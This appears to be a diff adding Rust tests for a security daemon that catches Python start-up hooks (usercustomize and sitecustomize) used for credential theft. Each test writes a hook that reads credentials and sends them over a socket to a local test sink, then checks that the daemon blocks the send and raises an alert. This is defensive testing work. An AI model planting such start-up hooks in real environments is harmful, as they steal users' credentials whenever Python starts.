@@ -518,3 +518,83 @@ with open(os.path.join(os.path.expanduser('~'), 'payload.done'), 'w') as f:
         "nothing was read, so nothing was exfiltrated: {alerts:#?}"
     );
 }
+
+// ---- module hooks: usercustomize and sitecustomize ----
+
+/// `code` as a module hook at `path` (run in the interpreter during start-up), in block
+/// mode: zero bytes, and the alert names the module and its kind.
+fn module_hook(name: &str, kind: &str, pythonpath: bool) {
+    let sb = Sandbox::new(name);
+    let sink = TcpSink::start();
+    let dir = if pythonpath {
+        sb.home.join("pp")
+    } else {
+        sb.site.clone()
+    };
+    std::fs::create_dir_all(&dir).expect("mkdir");
+    let path = dir.join(format!("{kind}.py"));
+    std::fs::write(
+        &path,
+        format!(
+            "import os
+if not os.environ.get('PTHW_CHILD'):
+{}",
+            indent(&format!(
+                "{READ_CREDENTIALS}
+import socket
+try:
+    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+                sink.port
+            ))
+        ),
+    )
+    .expect("write module hook");
+    let daemon = Daemon::start("block", &[]);
+    let mut cmd = sb.command(PYTHON);
+    if pythonpath {
+        cmd.env("PYTHONPATH", &dir);
+    }
+    let (code, out) = run_bounded(cmd.args(["-c", "pass"]), Duration::from_secs(60));
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(10));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "{kind}: the send got through"
+    );
+    assert_eq!(sink.bytes(), 0);
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert_eq!(alert["startup_hook"]["kind"], kind, "{alert:#}");
+    assert_eq!(
+        alert["startup_hook"]["path"].as_str(),
+        Some(&*real(&path).to_string_lossy()),
+        "{alert:#}"
+    );
+}
+
+fn indent(code: &str) -> String {
+    code.lines().map(|l| format!("    {l}\n")).collect()
+}
+
+#[test]
+fn a_usercustomize_hook_is_caught() {
+    if can_run() {
+        module_hook("usercustomize", "usercustomize", false);
+    }
+}
+
+#[test]
+fn a_sitecustomize_hook_on_pythonpath_is_caught() {
+    if can_run() {
+        module_hook("sitecustomize", "sitecustomize", true);
+    }
+}
